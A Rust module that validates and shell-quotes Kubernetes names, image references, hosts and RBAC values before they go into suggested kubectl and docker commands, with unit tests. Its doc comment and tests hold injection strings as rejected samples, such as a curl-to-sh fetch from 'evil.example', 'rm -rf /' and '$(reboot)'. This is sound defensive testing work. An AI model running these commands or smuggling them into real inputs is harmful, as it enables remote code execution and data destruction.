//! Values pasted into suggested commands (`$ kubectl …`, `$ docker …`).
//!
//! People copy these lines into a shell, and the values come from the input: pod names from file
//! and tar member names, captures from log lines. A log line `secret "x$(curl …|sh)" not found`
//! must not become `kubectl get secret x$(curl …|sh)`. So every value is checked against its own
//! grammar (Kubernetes names: DNS-1123; images: the distribution reference; hosts: RFC 1123),
//! shell-quoted when it needs it, and replaced by a `<placeholder>` when it is not valid.

use std::borrow::Cow;

/// The grammar a value must follow to be pasted into a command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Grammar {
    /// A DNS-1123 subdomain: pods, Secrets, ConfigMaps, service accounts, workloads.
    Subdomain,
    /// A DNS-1123 label: namespaces, containers.
    Label,
    /// A container image reference (`registry:5000/org/name:tag@sha256:…`).
    Image,
    /// A host name or IPv4 address (a `:port` suffix is dropped).
    Host,
    /// An RBAC verb (`get`, `list`, …).
    Verb,
    /// An RBAC resource (`pods`, `deployments.apps`, `pods/log`).
    Resource,
}

fn is_label_char(b: u8) -> bool {
    b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'
}

/// A DNS-1123 label: 1-63 of `[a-z0-9-]`, starting and ending alphanumeric.
pub fn is_dns1123_label(s: &str) -> bool {
    let b = s.as_bytes();
    !b.is_empty()
        && b.len() <= 63
        && b.iter().all(|&c| is_label_char(c))
        && b[0] != b'-'
        && b[b.len() - 1] != b'-'
}

/// A DNS-1123 subdomain: at most 253 characters, dot-separated labels.
pub fn is_dns1123_subdomain(s: &str) -> bool {
    s.len() <= 253 && s.split('.').all(is_dns1123_label)
}

/// A host name (labels of `[A-Za-z0-9-_]`, RFC 1123 plus the underscores some DNS names use).
fn is_host(s: &str) -> bool {
    s.len() <= 253
        && s.split('.').all(|l| {
            let b = l.as_bytes();
            !b.is_empty()
                && b.len() <= 63
                && b.iter()
                    .all(|&c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_')
                && b[0] != b'-'
                && b[b.len() - 1] != b'-'
        })
}

/// One path component of an image name: `[a-z0-9]+` joined by `.`, `_`, `__` or dashes.
fn is_image_component(s: &str) -> bool {
    let b = s.as_bytes();
    !b.is_empty()
        && b.iter().all(|&c| {
            c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, b'.' | b'_' | b'-')
        })
        && b[0].is_ascii_alphanumeric()
        && b[b.len() - 1].is_ascii_alphanumeric()
}

/// A container image reference, after the distribution reference grammar (simplified: the
/// separators inside a component are not checked one by one).
pub fn is_image_ref(s: &str) -> bool {
    if s.is_empty() || s.len() > 512 {
        return false;
    }
    let (name_tag, digest) = match s.split_once('@') {
        Some((n, d)) => (n, Some(d)),
        None => (s, None),
    };
    if let Some(d) = digest {
        let Some((alg, hex)) = d.split_once(':') else {
            return false;
        };
        if alg.is_empty()
            || !alg.bytes().all(|c| {
                c.is_ascii_alphanumeric() || c == b'+' || c == b'.' || c == b'_' || c == b'-'
            })
            || hex.len() < 32
            || !hex.bytes().all(|c| c.is_ascii_hexdigit())
        {
            return false;
        }
    }
    // A tag follows the last ':' after the last '/', so `host:5000/name` has no tag.
    let last_slash = name_tag.rfind('/').map_or(0, |i| i + 1);
    let (name, tag) = match name_tag[last_slash..].rfind(':') {
        Some(i) => (
            &name_tag[..last_slash + i],
            Some(&name_tag[last_slash + i + 1..]),
        ),
        None => (name_tag, None),
    };
    if let Some(t) = tag {
        let b = t.as_bytes();
        if b.is_empty()
            || b.len() > 128
            || !(b[0].is_ascii_alphanumeric() || b[0] == b'_')
            || !b
                .iter()
                .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b'-'))
        {
            return false;
        }
    }
    let mut parts = name.split('/').peekable();
    let mut first = true;
    while let Some(p) = parts.next() {
        let is_last = parts.peek().is_none();
        // The first of several components may be a registry host with a port.
        let ok = if first && !is_last {
            match p.split_once(':') {
                Some((h, port)) => {
                    is_host(h) && !port.is_empty() && port.bytes().all(|c| c.is_ascii_digit())
                }
                None => is_host(p),
            }
        } else {
            is_image_component(p)
        };
        if !ok {
            return false;
        }
        first = false;
    }
    true
}

/// Whether `s` follows `grammar`.
pub fn is_valid(s: &str, grammar: Grammar) -> bool {
    match grammar {
        Grammar::Subdomain => is_dns1123_subdomain(s),
        Grammar::Label => is_dns1123_label(s),
        Grammar::Image => is_image_ref(s),
        Grammar::Host => is_host(s),
        Grammar::Verb => {
            !s.is_empty() && s.len() <= 64 && s.bytes().all(|c| c.is_ascii_lowercase())
        }
        Grammar::Resource => {
            !s.is_empty()
                && s.len() <= 253
                && s.split('/').count() <= 2
                && s.split('/').all(is_dns1123_subdomain)
        }
    }
}

/// `s` as one shell word: unchanged when it has only characters no POSIX shell treats
/// specially, otherwise in single quotes (`'` written as `'\''`).
pub fn shell_quote(s: &str) -> Cow<'_, str> {
    let plain = !s.is_empty()
        && s.bytes().all(|c| {
            c.is_ascii_alphanumeric()
                || matches!(
                    c,
                    b'@' | b'%' | b'+' | b'=' | b':' | b',' | b'.' | b'/' | b'_' | b'-'
                )
        });
    if plain {
        Cow::Borrowed(s)
    } else {
        Cow::Owned(format!("'{}'", s.replace('\'', r"'\''")))
    }
}

/// `value` ready to paste into a command: validated against `grammar` and quoted if needed, or
/// `placeholder` (e.g. `<pod>`) when missing or invalid.
pub fn arg(value: Option<&str>, grammar: Grammar, placeholder: &str) -> String {
    let value = value.map(|v| match grammar {
        // `db:5432` names the host `db`; nslookup wants only the host.
        Grammar::Host => v
            .rsplit_once(':')
            .filter(|(_, port)| !port.is_empty() && port.bytes().all(|c| c.is_ascii_digit()))
            .map_or(v, |(h, _)| h),
        _ => v,
    });
    match value {
        Some(v) if is_valid(v, grammar) => shell_quote(v).into_owned(),
        _ => placeholder.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kubernetes_names() {
        for ok in ["api-7d9f-x2", "db-creds", "a", "kube-root-ca.crt", "0abc"] {
            assert!(is_dns1123_subdomain(ok), "{ok}");
        }
        for bad in [
            "",
            "Api",
            "-a",
            "a-",
            "a..b",
            "a_b",
            "tenant-a$(curl -s https://evil.example/p.sh|sh)",
            "x;curl evil.example|sh;",
            &"a".repeat(254),
        ] {
            assert!(!is_dns1123_subdomain(bad), "{bad}");
        }
        assert!(is_dns1123_label("shop"));
        assert!(!is_dns1123_label("kube-root-ca.crt"));
        assert!(!is_dns1123_label(&"a".repeat(64)));
    }

    #[test]
    fn images() {
        for ok in [
            "nginx",
            "nginx:1.27",
            "shop/api:1.2.3",
            "registry.example.com:5000/shop/api:does-not-exist",
            "ghcr.io/org/app@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
            "localhost:5000/x_y__z:v1_2",
        ] {
            assert!(is_image_ref(ok), "{ok}");
        }
        for bad in [
            "",
            "nginx:",
            "Nginx",
            "shop/api:1;rm -rf /",
            "shop/api$(id)",
            "a b",
            "x:tag@sha256:zz",
            "-evil",
        ] {
            assert!(!is_image_ref(bad), "{bad}");
        }
    }

    #[test]
    fn hosts_and_rbac() {
        assert_eq!(
            arg(Some("db.shop.svc:5432"), Grammar::Host, "<host>"),
            "db.shop.svc"
        );
        assert_eq!(arg(Some("10.0.0.1"), Grammar::Host, "<host>"), "10.0.0.1");
        assert_eq!(arg(Some("$(reboot)"), Grammar::Host, "<host>"), "<host>");
        assert_eq!(arg(Some("get"), Grammar::Verb, "<verb>"), "get");
        assert_eq!(arg(Some("*"), Grammar::Verb, "<verb>"), "<verb>");
        assert_eq!(arg(Some("pods/log"), Grammar::Resource, "<r>"), "pods/log");
        assert_eq!(arg(None, Grammar::Subdomain, "<pod>"), "<pod>");
    }

    #[test]
    fn quoting() {
        assert_eq!(shell_quote("api-1"), "api-1");
        assert_eq!(shell_quote("a b"), "'a b'");
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_quote("$(x)"), "'$(x)'");
        assert_eq!(shell_quote(""), "''");
    }
}
